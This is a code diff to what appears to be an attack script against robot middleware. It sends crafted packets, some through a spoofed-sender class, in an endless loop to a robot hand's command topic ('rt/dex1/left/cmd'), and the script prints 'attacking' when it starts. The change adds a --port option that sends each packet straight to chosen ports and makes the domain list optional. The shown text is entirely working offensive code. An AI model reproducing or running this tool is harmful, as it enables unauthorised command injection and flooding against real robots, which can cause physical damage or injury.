@@ -140,11 +140,12 @@ class _Forged:
 
 def main() -> None:
     parser = argparse.ArgumentParser(description=__doc__)
-    parser.add_argument("--domain", type=int, action="append", required=True)
+    parser.add_argument("--domain", type=int, action="append", default=[])
     parser.add_argument("--to", action="append", required=True, metavar="ADDRESS[@SENDER]")
     parser.add_argument("--topic", action="append")
     parser.add_argument("--seconds", type=float, default=1.0)
     parser.add_argument("--pause", type=float, default=0.02)
+    parser.add_argument("--port", type=int, action="append", default=[], help="all of it here, too")
     options = parser.parse_args()
     stranger = Stranger(options.topic or ("rt/dex1/left/cmd",))
     ways: list[tuple[_Plain | _Forged, str]] = []
@@ -155,7 +156,14 @@ def main() -> None:
     print("attacking", flush=True)
     sent = 0
     for number in count(1):
-        for packet, port in stranger.round(number):
+        packets = stranger.round(number)
+        for packet in dict.fromkeys(packet for packet, _ in packets):
+            for port in options.port:
+                for out, address in ways:
+                    with contextlib.suppress(OSError):
+                        out.send(packet, address, port)
+                        sent += 1
+        for packet, port in packets:
             for domain in options.domain:
                 for out, address in ways:
                     with contextlib.suppress(OSError):  # unreachable: so be it
